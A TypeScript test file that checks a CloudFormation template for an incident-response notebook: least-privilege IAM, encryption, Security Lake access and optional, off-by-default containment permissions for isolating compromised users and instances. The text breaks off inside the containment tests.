// kernel-setup/cloudformation/irbook-notebook.yaml, read with CloudFormation's YAML tags and
// checked by cfn-template.ts; the checker itself is tested on broken copies of the template.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CONTAINMENT_COMMANDS } from '../../lib/containment/calls';
import { sentCommands } from '../support/containment-calls';
import {
  allProblems,
  bucketProblems,
  conditionalReferenceProblems,
  containmentProblems,
  encryptionProblems,
  evaluate,
  fakeEnvironment,
  iamGlob,
  identityStatements,
  isWriteAction,
  resolveString,
  SELF_PROTECTED_ROLE_ACTIONS,
  type Statement,
  TEST_ACCOUNT,
  TEST_REGION,
  lifecycleParts,
  lifecycleProblems,
  loadTemplate,
  policyProblems,
  presignedUrlProblems,
  referenceProblems,
  subVariables,
  UNSCOPABLE_ACTIONS,
  type Template,
} from './cfn-template';

const KERNEL_SETUP = join(__dirname, '..', '..', 'kernel-setup');
const TEMPLATE_TEXT = readFileSync(join(KERNEL_SETUP, 'cloudformation', 'irbook-notebook.yaml'), 'utf8');
const FILES = {
  OnCreate: readFileSync(join(KERNEL_SETUP, 'sagemaker', 'on-create.sh'), 'utf8'),
  OnStart: readFileSync(join(KERNEL_SETUP, 'sagemaker', 'on-start.sh'), 'utf8'),
};
const template = () => loadTemplate(TEMPLATE_TEXT);
const t = template();
const statement = (tpl: Template, role: string, sid: string) =>
  tpl.Resources[role].Properties.Policies[0].PolicyDocument.Statement.find((s: { Sid?: string }) => s.Sid === sid);
const containmentStatement = (tpl: Template, sid: string) => {
  const found = tpl.Resources.ContainmentPolicy.Properties.PolicyDocument.Statement.find((s: { Sid?: string }) => s.Sid === sid);
  if (!found) throw new Error(`ContainmentPolicy has no statement ${sid}`);
  return found;
};
/** Runs of consecutive comment lines, joined: a comment may say why over several lines. */
const commentBlocks = (text: string) =>
  text
    .split(/\n(?!\s*#)/)
    .map((chunk) => chunk.split('\n').filter((line) => /^\s*#/.test(line)).join(' '))
    .filter((block) => block !== '');

describe('CloudFormation template: structure', () => {
  it('parses, with the resources the article describes', () => {
    const types = Object.fromEntries(Object.entries(t.Resources).map(([name, r]) => [name, r.Type]));
    expect(types).toMatchObject({
      DataKey: 'AWS::KMS::Key',
      ResultsBucket: 'AWS::S3::Bucket',
      ResultsBucketPolicy: 'AWS::S3::BucketPolicy',
      AthenaWorkGroup: 'AWS::Athena::WorkGroup',
      NotebookRole: 'AWS::IAM::Role',
      NotebookAccessRole: 'AWS::IAM::Role',
      LifecycleConfig: 'AWS::SageMaker::NotebookInstanceLifecycleConfig',
      NotebookInstance: 'AWS::SageMaker::NotebookInstance',
      ContainmentPolicy: 'AWS::IAM::ManagedPolicy',
    });
    expect(Object.keys(t.Outputs ?? {})).toEqual(expect.arrayContaining(['ResultsBucketName', 'WorkGroup', 'NotebookRoleArn', 'NotebookUrl']));
  });

  it('every Ref, GetAtt, ${…} in Fn::Sub, condition and DependsOn resolves, and every parameter is used', () => {
    expect(referenceProblems(t)).toEqual([]);
  });

  it('notebook instance: key, root access off by default, real platform identifiers, IMDSv2, optional VPC', () => {
    const nb = t.Resources.NotebookInstance.Properties;
    const p = t.Parameters ?? {};
    expect(p.InstanceType.Default).toBe('ml.t3.medium');
    expect(nb.RootAccess).toEqual({ Ref: 'RootAccess' });
    expect(p.RootAccess.Default).toBe('Disabled');
    expect(nb.PlatformIdentifier).toEqual({ Ref: 'PlatformIdentifier' });
    // Amazon Linux 2 notebook instances cannot be created or restarted from 1 July 2026.
    expect(p.PlatformIdentifier.AllowedValues).toEqual(['notebook-al2023-v1']);
    expect(p.PlatformIdentifier.Default).toBe('notebook-al2023-v1');
    expect(nb.VolumeSizeInGB).toEqual({ Ref: 'VolumeSizeInGB' });
    expect(nb.DirectInternetAccess).toEqual({ Ref: 'DirectInternetAccess' });
    expect(nb.InstanceMetadataServiceConfiguration).toEqual({ MinimumInstanceMetadataServiceVersion: '2' });
    expect(nb.SubnetId).toEqual({ 'Fn::If': ['HasSubnet', { Ref: 'SubnetId' }, { Ref: 'AWS::NoValue' }] });
    expect(nb.SecurityGroupIds).toEqual({ 'Fn::If': ['HasSubnet', { Ref: 'SecurityGroupIds' }, { Ref: 'AWS::NoValue' }] });
    // No direct internet access only makes sense in a VPC: a rule stops the stack otherwise.
    expect(JSON.stringify(t.Rules?.NoDirectInternetNeedsSubnet)).toContain('"SubnetId"');
  });

  it('the notebook name is lower case, so the ARN in the access policy matches what SageMaker reports', () => {
    const name = t.Parameters?.NotebookInstanceName;
    const pattern = new RegExp(name.AllowedPattern);
    expect(pattern.test(name.Default)).toBe(true);
    expect(pattern.test('Irbook')).toBe(false);
    // The lifecycle config is named after it and may have 63 characters.
    expect(name.MaxLength + '-irbook'.length).toBeLessThanOrEqual(63);
  });
});

describe('CloudFormation template: security', () => {
  it('identity policies: no wildcard actions, no managed policies, Resource "*" only where an action cannot be scoped', () => {
    expect(policyProblems(t, UNSCOPABLE_ACTIONS)).toEqual([]);
    const starActions = identityStatements(t)
      .filter((s) => s.Resource.includes('*'))
      .flatMap((s) => s.Action);
    expect(starActions.sort()).toEqual([
      'autoscaling:DescribeAutoScalingGroups',
      'autoscaling:DescribeAutoScalingInstances',
      'ec2:DescribeIamInstanceProfileAssociations',
      'ec2:DescribeInstanceAttribute',
      'ec2:DescribeInstances',
      'ec2:DescribeNetworkAcls',
      'ec2:DescribeNetworkInterfaces',
      'ec2:DescribeSecurityGroups',
      'ec2:DescribeVolumes',
      'ec2:DescribeVpcs',
      'lakeformation:GetDataAccess',
      'sagemaker:ListNotebookInstances',
      'sso:ListInstances',
      'sts:GetCallerIdentity',
    ]);
    // Each of them carries a comment in the template saying why.
    const blocks = commentBlocks(TEMPLATE_TEXT);
    for (const action of starActions) expect(blocks.some((block) => new RegExp(`${action}\\b.*(no resource|has no resources)`).test(block)), action).toBe(true);
  });

  it('the notebook role reads only the named log buckets, databases and tables, and writes only the results bucket', () => {
    const role = t.Resources.NotebookRole.Properties;
    expect(role.AssumeRolePolicyDocument.Statement[0].Principal).toEqual({ Service: 'sagemaker.amazonaws.com' });
    const all = identityStatements(t).filter((s) => s.where.startsWith('NotebookRole/'));
    const writes = all.filter((s) => s.Action.some((a) => /^s3:(Put|Delete|Abort)/.test(a)));
    expect(writes.map((s) => s.Resource)).toEqual([[{ 'Fn::Sub': '${ResultsBucket.Arn}/*' }]]);
    expect(statement(t, 'NotebookRole', 'ReadLogBuckets').Resource).toEqual({ Ref: 'LogBucketArns' });
    expect(JSON.stringify(statement(t, 'NotebookRole', 'ReadLogObjects').Resource)).toContain('"Ref":"LogBucketArns"');
    const glue = JSON.stringify(statement(t, 'NotebookRole', 'GlueCatalogReadLogTables').Resource);
    for (const name of ['GlueDatabaseName', 'SecondGlueDatabaseName', 'GlueTables']) expect(glue).toContain(`\${${name}}`);
    expect(statement(t, 'NotebookRole', 'AthenaQueriesInTheWorkGroup').Resource['Fn::Sub']).toMatch(/:workgroup\/\$\{AthenaWorkGroup\}$/);
    const actions = all.flatMap((s) => s.Action);
    expect(actions).toEqual(expect.arrayContaining(['lakeformation:GetDataAccess', 'sts:GetCallerIdentity', 'logs:PutLogEvents', 'kms:GenerateDataKey']));
    // Read-only on the logs: no IAM, no EC2, no changes outside the results bucket.
    expect(actions.filter((a) => /^(iam|ec2|sagemaker):/.test(a))).toEqual([]);
  });

  it('results bucket: SSE-KMS with the stack key, public access blocked, TLS only, results expire', () => {
    expect(bucketProblems(t)).toEqual([]);
    const rules = t.Resources.ResultsBucket.Properties.LifecycleConfiguration.Rules;
    expect(rules[0].ExpirationInDays).toEqual({ Ref: 'ResultsRetentionDays' });
  });

  it('KMS key rotates; the workgroup enforces SSE-KMS results in the bucket; the notebook volume uses the key', () => {
    expect(encryptionProblems(t)).toEqual([]);
  });

  it('the presigned notebook URL is allowed only from AllowedCidr (aws:SourceIp) and denied from elsewhere', () => {
    expect(presignedUrlProblems(t, 'AllowedCidr')).toEqual([]);
    const pattern = new RegExp(t.Parameters?.AllowedCidr.AllowedPattern);
    expect(['203.0.113.0/24', '10.0.0.0/8', '198.51.100.7/32'].every((c) => pattern.test(c))).toBe(true);
    expect(['203.0.113.0', '203.0.113.0/33', 'any'].some((c) => pattern.test(c))).toBe(false);
  });
});

describe('CloudFormation template: what a first run on a real account needs', () => {
  const env = fakeEnvironment(t);
  const arn = (kind: string) => `arn:aws:glue:${TEST_REGION}:${TEST_ACCOUNT}:${kind}`;

  it('creates the Glue database it names, and lets the role create tables in that one only', () => {
    expect(t.Parameters?.CreateGlueDatabase.Default).toBe('true');
    const db = t.Resources.LogDatabase;
    expect(db).toMatchObject({ Type: 'AWS::Glue::Database', Condition: 'CreatesDatabase' });
    expect(db.Properties.DatabaseInput.Name).toEqual({ Ref: 'GlueDatabaseName' });
    // The grant sits in Fn::If CreatesDatabase: without the database, no CreateTable at all.
    const conditional = t.Resources.NotebookRole.Properties.Policies[0].PolicyDocument.Statement
      .filter((s: Record<string, unknown>) => Array.isArray(s['Fn::If']) && s['Fn::If'][0] === 'CreatesDatabase');
    expect(conditional).toHaveLength(1);
    const grant = conditional[0]['Fn::If'][1];
    expect(grant.Action).toBe('glue:CreateTable');
    const statements = [{ ...grant, where: 'NotebookRole/grant', owner: 'NotebookRole', inline: true, Action: [grant.Action], Resource: grant.Resource } as Statement];
    const createTable = (resource: string) => evaluate(statements, { action: 'glue:CreateTable', resource }, env).decision;
    // Athena's CREATE EXTERNAL TABLE is checked on the catalog, the database and the new table.
    for (const resource of [arn('catalog'), arn(`database/${env.LogDatabase}`), arn(`table/${env.LogDatabase}/cloudtrail`)]) {
      expect(createTable(resource), resource).toBe('Allow');
    }
    for (const resource of [arn('database/default'), arn('table/default/cloudtrail'), arn('table/other_db/cloudtrail')]) {
      expect(createTable(resource), resource).toBe('ImplicitDeny');
    }
    // No other statement of the notebook role creates, changes or deletes Glue objects.
    const glueWrites = identityStatements(t).filter((s) => s.owner === 'NotebookRole' && s.Sid !== grant.Sid).flatMap((s) => s.Action)
      .filter((a) => typeof a === 'string' && /^glue:(Create|Update|Delete|Batch(Create|Delete|Update))/.test(a));
    expect(glueWrites).toEqual([]);
  });

  it('holds BytesScannedCutoffPerQuery to 0 or Athena\'s 10,000,000-byte minimum', () => {
    const p = t.Parameters!.BytesScannedCutoffPerQuery;
    const allowed = (v: string) => new RegExp(p.AllowedPattern).test(v);
    for (const ok of ['0', '10000000', '10000001', '5000000000000']) expect(allowed(ok), ok).toBe(true);
    for (const bad of ['9999999', '1', '1000', '-1', '010000000', '1e7', '']) expect(allowed(bad), bad).toBe(false);
    expect(allowed(p.Default)).toBe(true);
    expect(t.Resources.AthenaWorkGroup.Properties.WorkGroupConfiguration.BytesScannedCutoffPerQuery)
      .toEqual({ 'Fn::If': ['HasScanCutoff', { Ref: 'BytesScannedCutoffPerQuery' }, { Ref: 'AWS::NoValue' }] });
  });

  it('lets the role query in the stack\'s workgroup and region only, and read how that workgroup is billed', () => {
    const all = identityStatements(t).filter((s) => s.owner === 'NotebookRole');
    const decide = (action: string, resource: string) => evaluate(all, { action, resource }, env).decision;
    expect(decide('athena:GetWorkGroup', `arn:aws:athena:${TEST_REGION}:${TEST_ACCOUNT}:workgroup/${env.AthenaWorkGroup}`)).toBe('Allow');
    expect(decide('athena:GetCapacityAssignmentConfiguration', `arn:aws:athena:${TEST_REGION}:${TEST_ACCOUNT}:capacity-reservation/r1`)).toBe('Allow');
    // Queries run in the stack's workgroup in the stack's region only: why the notebooks take both from the stack.
    expect(decide('athena:StartQueryExecution', `arn:aws:athena:${TEST_REGION}:${TEST_ACCOUNT}:workgroup/${env.AthenaWorkGroup}`)).toBe('Allow');
    expect(decide('athena:StartQueryExecution', `arn:aws:athena:${TEST_REGION}:${TEST_ACCOUNT}:workgroup/primary`)).toBe('ImplicitDeny');
    expect(decide('athena:StartQueryExecution', `arn:aws:athena:eu-west-1:${TEST_ACCOUNT}:workgroup/${env.AthenaWorkGroup}`)).toBe('ImplicitDeny');
  });
});

describe('CloudFormation template: querying a Security Lake shared from another account', () => {
  const LAKE_ACCOUNT = '999988887777';
  const LAKE_DB = 'amazon_security_lake_glue_db_us_west_2';
  const LINK = 'amazon_security_lake_glue_db_us_west_2_subscriber';
  const env = { ...fakeEnvironment(t), LakeAccountId: LAKE_ACCOUNT, LakeDatabaseName: LAKE_DB, LakeResourceLinkName: LINK, LakeTables: t.Parameters!.LakeTables.Default };
  const glue = (account: string, kind: string) => `arn:aws:glue:${TEST_REGION}:${account}:${kind}`;
  // identityStatements takes both branches of each Fn::If: the lake statement is among them, as in a stack with a lake.
  const roleStatements = identityStatements(t).filter((s) => s.owner === 'NotebookRole');
  const lakeRead = roleStatements.find((s) => s.Sid === 'GlueCatalogReadSharedLake')!;
  const others = roleStatements.filter((s) => s !== lakeRead);
  const decide = (action: string, resource: string, statements = roleStatements) => evaluate(statements, { action, resource }, env).decision;

  it('takes the lake account, database, resource link and tables as parameters, and grants nothing for a lake when none is given', () => {
    for (const name of ['LakeAccountId', 'LakeDatabaseName', 'LakeResourceLinkName']) expect(t.Parameters![name].Default, name).toBe('');
    const inPolicy = t.Resources.NotebookRole.Properties.Policies[0].PolicyDocument.Statement
      .find((s: Record<string, unknown>) => Array.isArray(s['Fn::If']) && s['Fn::If'][1].Sid === 'GlueCatalogReadSharedLake');
    expect(inPolicy['Fn::If'][0]).toBe('HasSharedLake');
    expect(t.Conditions!.HasSharedLake).toEqual({ 'Fn::Not': [{ 'Fn::Equals': [{ Ref: 'LakeAccountId' }, ''] }] });
    const pattern = new RegExp(t.Parameters!.LakeAccountId.AllowedPattern);
    expect(['', LAKE_ACCOUNT].every((v) => pattern.test(v))).toBe(true);
    expect(['12345', '9999888877770', 'arn:aws:iam::999988887777:root'].some((v) => pattern.test(v))).toBe(false);
    // Without the lake statement, no Glue read reaches the lake account.
    expect(evaluate(others, { action: 'glue:GetTable', resource: glue(LAKE_ACCOUNT, `table/${LAKE_DB}/amazon_security_lake_table_us_west_2_s3_data_2_0`) }, env)).toMatchObject({ allowedBy: [] });
    expect(t.Rules!.LakeAccountNeedsDatabase).toBeDefined();
  });

  it("lets the role read the sharing account's catalog, database and tables, and the resource link, and nothing else there", () => {
    for (const action of ['glue:GetDatabase', 'glue:GetTable', 'glue:GetTables', 'glue:GetPartitions']) {
      for (const resource of [glue(LAKE_ACCOUNT, 'catalog'), glue(LAKE_ACCOUNT, `database/${LAKE_DB}`), glue(LAKE_ACCOUNT, `table/${LAKE_DB}/amazon_security_lake_table_us_west_2_cloud_trail_mgmt_2_0`),
        glue(TEST_ACCOUNT, `database/${LINK}`), glue(TEST_ACCOUNT, `table/${LINK}/amazon_security_lake_table_us_west_2_sh_findings_2_0`)]) {
        expect(decide(action, resource), `${action} ${resource}`).toBe('Allow');
      }
    }
    for (const resource of [glue(LAKE_ACCOUNT, 'database/other_db'), glue(LAKE_ACCOUNT, 'table/other_db/secrets'), glue(LAKE_ACCOUNT, `table/${LAKE_DB}/not_a_lake_table`), glue('123456789012', `table/${LAKE_DB}/amazon_security_lake_table_us_west_2_s3_data_2_0`)]) {
      expect(decide('glue:GetTable', resource), resource).toBe('ImplicitDeny');
    }
    // Read-only there.
    expect(lakeRead.Action.filter((a) => isWriteAction(String(a)))).toEqual([]);
  });

  it('grants SELECT in Lake Formation on the target tables in the lake account, not only on the resource link', () => {
    const select = t.Resources.LakeTablesSelectGrant;
    expect(select).toMatchObject({ Type: 'AWS::LakeFormation::PrincipalPermissions', Condition: 'GrantsLakeTables' });
    expect(select.Properties.Principal.DataLakePrincipalIdentifier).toEqual({ 'Fn::GetAtt': ['NotebookRole', 'Arn'] });
    expect(select.Properties.Resource.Table.CatalogId).toEqual({ Ref: 'LakeAccountId' });
    expect(select.Properties.Resource.Table.DatabaseName).toEqual({ Ref: 'LakeDatabaseName' });
    expect(select.Properties.Permissions).toContain('SELECT');
    expect(select.Properties.PermissionsWithGrantOption).toEqual([]);
    const link = t.Resources.LakeResourceLinkDescribeGrant;
    expect(link).toMatchObject({ Type: 'AWS::LakeFormation::PrincipalPermissions', Condition: 'GrantsLakeResourceLink' });
    expect(link.Properties.Resource.Database).toEqual({ CatalogId: { Ref: 'AWS::AccountId' }, Name: { Ref: 'LakeResourceLinkName' } });
    expect(link.Properties.Permissions).toEqual(['DESCRIBE']);
    // Both depend on the shared lake; the grants can be left to a Lake Formation administrator.
    expect(JSON.stringify(t.Conditions!.GrantsLakeTables)).toContain('HasSharedLake');
    expect(JSON.stringify(t.Conditions!.GrantsLakeResourceLink)).toContain('HasLakeResourceLink');
    expect(JSON.stringify(t.Conditions!.GrantsLakeTables)).toContain('GrantLakeFormationPermissions');
  });
});

describe('CloudFormation template: lifecycle configuration', () => {
  it('inlines on-create.sh and on-start.sh unchanged, after a prefix that sets the stack parameters', () => {
    expect(lifecycleProblems(t, FILES)).toEqual([]);
    const prefix = lifecycleParts(t, 'OnStart')?.prefix ?? '';
    expect(subVariables(prefix).filter((v) => !v.startsWith('AWS::'))).toEqual(['RepositoryUrl', 'RepositoryBranch', 'NodeMajorVersion', 'AthenaWorkGroupName']);
    expect(prefix).toContain("IRBOOK_AWS_REGION='${AWS::Region}'");
    // The variables the prefix sets are the script's parameters.
    for (const variable of ['IRBOOK_REPO_URL', 'IRBOOK_BRANCH', 'IRBOOK_NODE_MAJOR', 'IRBOOK_AWS_REGION', 'IRBOOK_WORKGROUP']) expect(FILES.OnStart).toContain(`${variable}="\${${variable}:-`);
    // The defaults agree.
    expect(FILES.OnStart).toContain(`IRBOOK_REPO_URL:-${t.Parameters?.RepositoryUrl.Default}}`);
    expect(FILES.OnStart).toContain(`IRBOOK_NODE_MAJOR:-${t.Parameters?.NodeMajorVersion.Default}}`);
  });

  it('fits SageMaker\'s limit of 16384 base64 characters per script, with the longest parameter values', () => {
    const p = t.Parameters ?? {};
    const longest: Record<string, string> = {
      'AWS::StackName': 's'.repeat(128),
      RepositoryUrl: `https://${'u'.repeat(p.RepositoryUrl.MaxLength - 8)}`,
      RepositoryBranch: 'b'.repeat(p.RepositoryBranch.MaxLength),
      NodeMajorVersion: '22',
      AthenaWorkGroupName: 'w'.repeat(128),
      'AWS::Region': 'ap-southeast-5',
    };
    for (const hook of ['OnCreate', 'OnStart'] as const) {
      const parts = lifecycleParts(t, hook);
      const prefix = (parts?.prefix ?? '').replace(/\$\{([^}]+)\}/g, (_, name: string) => longest[name]);
      expect(prefix).not.toContain('${');
      expect(Buffer.from(prefix + parts?.script).toString('base64').length).toBeLessThanOrEqual(16384);
    }
  });
});

describe('CloudFormation template: containment permissions (optional)', () => {
  const env = fakeEnvironment(t);
  const statements = identityStatements(t);
  const containment = statements.filter((s) => s.owner === 'ContainmentPolicy');
  const roleStatements = statements.filter((s) => s.owner === 'NotebookRole' || s.owner === 'ContainmentPolicy');
  const arn = {
    user: `arn:aws:iam::${TEST_ACCOUNT}:user/compromised-user`,
    group: `arn:aws:iam::${TEST_ACCOUNT}:group/developers`,
    role: `arn:aws:iam::${TEST_ACCOUNT}:role/compromised-role`,
    pathRole: `arn:aws:iam::${TEST_ACCOUNT}:role/service/app-role`,
    instanceProfile: `arn:aws:iam::${TEST_ACCOUNT}:instance-profile/web-profile`,
    instance: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:instance/i-0123456789abcdef0`,
    securityGroup: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:security-group/sg-0123456789abcdef0`,
    vpc: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:vpc/vpc-0123456789abcdef0`,
    networkInterface: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:network-interface/eni-0123456789abcdef0`,
    volume: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:volume/vol-0123456789abcdef0`,
    snapshot: `arn:aws:ec2:${TEST_REGION}::snapshot/snap-0123456789abcdef0`,
    bucket: 'arn:aws:s3:::leaky-bucket',
    auditObject: `${env['ResultsBucket.Arn']}/containment-audit/2025/01/01/step.json`,
    networkAcl: `arn:aws:ec2:${TEST_REGION}:${TEST_ACCOUNT}:network-acl/acl-0123456789abcdef0`,
    ssoInstance: 'arn:aws:sso:::instance/ssoins-1111222233334444',
    permissionSet: 'arn:aws:sso:::permissionSet/ssoins-1111222233334444/ps-3333333333333333',
    ssoAccount: `arn:aws:sso:::account/${TEST_ACCOUNT}`,
    autoScalingGroup: `arn:aws:autoscaling:${TEST_REGION}:${TEST_ACCOUNT}:autoScalingGroup:0c5d8b1e-1111-2222-3333-444455556666:autoScalingGroupName/web-asg`,
  };
  const inAccount = { 'aws:ResourceAccount': TEST_ACCOUNT };

  // [action, a resource it is called on, request context, the statement that should allow it]
  const NEEDED: Array<[string, string, Record<string, string>, string]> = [
    ...['iam:GetUser', 'iam:ListAccessKeys', 'iam:GetAccessKeyLastUsed', 'iam:UpdateAccessKey', 'iam:GetUserPolicy', 'iam:PutUserPolicy', 'iam:DeleteUserPolicy', 'iam:GetLoginProfile', 'iam:DeleteLoginProfile', 'iam:ListMFADevices', 'iam:DeactivateMFADevice', 'iam:ListAttachedUserPolicies', 'iam:ListUserPolicies', 'iam:ListGroupsForUser'].map(
      (a) => [a, arn.user, {}, 'IamUsersInspectDeactivateKeysRemoveLoginAndInlineDeny'] as [string, string, Record<string, string>, string],
    ),
    ...['iam:AttachUserPolicy', 'iam:DetachUserPolicy'].map(
      (a) => [a, arn.user, { 'iam:PolicyARN': 'arn:aws:iam::aws:policy/AWSDenyAll' }, 'IamUsersAttachOnlyAwsDenyAll'] as [string, string, Record<string, string>, string],
    ),
    ...['iam:ListAttachedGroupPolicies', 'iam:ListGroupPolicies', 'iam:GetGroupPolicy'].map((a) => [a, arn.group, {}, 'IamGroupsReadPoliciesAUserGetsThroughGroups'] as [string, string, Record<string, string>, string]),
    ...['iam:GetRole', 'iam:GetRolePolicy', 'iam:PutRolePolicy', 'iam:DeleteRolePolicy', 'iam:UpdateAssumeRolePolicy', 'iam:ListAttachedRolePolicies', 'iam:ListRolePolicies'].map(
      (a) => [a, arn.role, {}, 'IamRolesInspectInlineDenyAndRevokeTrust'] as [string, string, Record<string, string>, string],
    ),
    ['iam:GetInstanceProfile', arn.instanceProfile, {}, 'IamInstanceProfilesReadTheRoleOfAnInstance'],
    ['iam:PassRole', arn.pathRole, { 'iam:PassedToService': 'ec2.amazonaws.com', 'aws:ResourceTag/irbook-restorable': 'true' }, 'PassRolesToEc2ToRestoreInstanceProfiles'],
    ...['ec2:DescribeInstances', 'ec2:DescribeSecurityGroups', 'ec2:DescribeIamInstanceProfileAssociations', 'ec2:DescribeVolumes', 'ec2:DescribeInstanceAttribute', 'ec2:DescribeVpcs', 'ec2:DescribeNetworkAcls', 'ec2:DescribeNetworkInterfaces'].map(
      (a) => [a, '*', {}, 'ReadsWithoutResourceLevelPermissions'] as [string, string, Record<string, string>, string],
    ),
    ['ec2:CreateSecurityGroup', arn.vpc, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:CreateSecurityGroup', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:RevokeSecurityGroupEgress', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:RevokeSecurityGroupIngress', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:DeleteSecurityGroup', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:ModifyInstanceAttribute', arn.instance, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:ModifyInstanceAttribute', arn.securityGroup, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:CreateSnapshot', arn.volume, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:CreateSnapshot', arn.snapshot, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:DisassociateIamInstanceProfile', arn.instance, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:AssociateIamInstanceProfile', arn.instance, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:ReplaceIamInstanceProfileAssociation', arn.instance, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:ModifyNetworkInterfaceAttribute', arn.networkInterface, {}, 'Ec2MoveNetworkInterfacesAndRestoreQuarantineEgress'],
    ['ec2:ModifyNetworkInterfaceAttribute', arn.securityGroup, {}, 'Ec2MoveNetworkInterfacesAndRestoreQuarantineEgress'],
    ['ec2:AuthorizeSecurityGroupEgress', arn.securityGroup, {}, 'Ec2MoveNetworkInterfacesAndRestoreQuarantineEgress'],
    ['ec2:AuthorizeSecurityGroupIngress', arn.securityGroup, {}, 'Ec2MoveNetworkInterfacesAndRestoreQuarantineEgress'],
    ['ec2:CreateTags', arn.snapshot, { 'ec2:CreateAction': 'CreateSnapshot' }, 'Ec2TagOnlyWhatContainmentCreates'],
    ['ec2:CreateTags', arn.securityGroup, { 'ec2:CreateAction': 'CreateSecurityGroup' }, 'Ec2TagOnlyWhatContainmentCreates'],
    ['ec2:CreateTags', arn.networkAcl, { 'ec2:CreateAction': 'CreateNetworkAcl' }, 'Ec2TagOnlyWhatContainmentCreates'],
    ['ec2:CreateNetworkAcl', arn.vpc, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:CreateNetworkAcl', arn.networkAcl, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:ReplaceNetworkAclAssociation', arn.networkAcl, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ['ec2:DeleteNetworkAcl', arn.networkAcl, {}, 'Ec2IsolateSnapshotAndSwapInstanceProfiles'],
    ...['autoscaling:DescribeAutoScalingInstances', 'autoscaling:DescribeAutoScalingGroups'].map((a) => [a, '*', {}, 'ReadsWithoutResourceLevelPermissions'] as [string, string, Record<string, string>, string]),
    ['sso:ListInstances', '*', {}, 'ReadsWithoutResourceLevelPermissions'],
    ...['sso:ListPermissionSets', 'sso:DescribePermissionSetProvisioningStatus'].map((a) => [a, arn.ssoInstance, {}, 'SsoPermissionSetDenyThisAccount'] as [string, string, Record<string, string>, string]),
    ...['sso:DescribePermissionSet', 'sso:GetInlinePolicyForPermissionSet', 'sso:PutInlinePolicyToPermissionSet', 'sso:DeleteInlinePolicyFromPermissionSet'].map(
      (a) => [a, arn.permissionSet, {}, 'SsoPermissionSetDenyThisAccount'] as [string, string, Record<string, string>, string],
    ),
    ...[arn.ssoInstance, arn.permissionSet, arn.ssoAccount].map((r) => ['sso:ProvisionPermissionSet', r, {}, 'SsoPermissionSetDenyThisAccount'] as [string, string, Record<string, string>, string]),
    ...['autoscaling:SuspendProcesses', 'autoscaling:ResumeProcesses', 'autoscaling:DetachInstances', 'autoscaling:AttachInstances'].map(
      (a) => [a, arn.autoScalingGroup, {}, 'AutoScalingSuspendOrDetach'] as [string, string, Record<string, string>, string],
    ),
    ...['s3:GetBucketPolicy', 's3:PutBucketPolicy', 's3:DeleteBucketPolicy', 's3:GetBucketPublicAccessBlock', 's3:PutBucketPublicAccessBlock'].map(
      (a) => [a, arn.bucket, inAccount, 'S3BucketPolicyAndPublicAccessBlockOfThisAccount'] as [string, string, Record<string, string>, string],
    ),
    ['s3:PutObject', arn.auditObject, {}, 'WriteContainmentAuditLog'],
    ['s3:GetObject', arn.auditObject, {}, 'WriteContainmentAuditLog'],
  ];

  it('EnableContainment is off by default, and its description says what turning it on allows', () => {
    const p = t.Parameters?.EnableContainment;
    expect(p.Default).toBe('false');
    expect(p.AllowedValues).toEqual(['false', 'true']);
    for (const phrase of [/IAM\s+users and roles/, /EC2 instances/, /S3\s+bucket policies/, /this account/, /confirms with the account id/]) expect(p.Description).toMatch(phrase);
    expect(t.Conditions?.ContainmentEnabled).toEqual({ 'Fn::Equals': [{ Ref: 'EnableContainment' }, 'true'] });
    const groups = (t as { Metadata?: Record<string, any> }).Metadata?.['AWS::CloudFormation::Interface'].ParameterGroups;
    expect(groups.flatMap((g: { Parameters: string[] }) => g.Parameters)).toContain('EnableContainment');
  });

  it('ContainmentPolicy exists only under ContainmentEnabled, is attached to NotebookRole only, and is output under the same condition', () => {
    const policy = t.Resources.ContainmentPolicy;
    expect(policy.Type).toBe('AWS::IAM::ManagedPolicy');
    expect(policy.Condition).toBe('ContainmentEnabled');
    expect(policy.Properties.Roles).toEqual([{ Ref: 'NotebookRole' }]);
    expect(policy.Properties.Users).toBeUndefined();
    expect(policy.Properties.Groups).toBeUndefined();
    // No fixed name: a named policy would need CAPABILITY_NAMED_IAM and clash across stacks.
    expect(policy.Properties.ManagedPolicyName).toBeUndefined();
    expect(t.Outputs?.ContainmentPolicyArn).toEqual({ Condition: 'ContainmentEnabled', Description: expect.any(String), Value: { Ref: 'ContainmentPolicy' } });
    // The only resource under this condition, and nothing unconditional refers to it.
    expect(Object.entries(t.Resources).filter(([, r]) => r.Condition === 'ContainmentEnabled').map(([name]) => name)).toEqual(['ContainmentPolicy']);
    expect(conditionalReferenceProblems(t)).toEqual([]);
    expect(containmentProblems(t)).toEqual([]);
  });

  it.each(NEEDED)('allows %s on %s, by the statement meant for it', (action, resource, context, sid) => {
    const result = evaluate(containment, { action, resource, context }, env);
    expect(result.decision).toBe('Allow');
    expect(result.allowedBy).toEqual([`ContainmentPolicy/${sid}`]);
    // Together with the role's own policy too (no Deny gets in the way).
    expect(evaluate(roleStatements, { action, resource, context }, env).decision).toBe('Allow');
  });

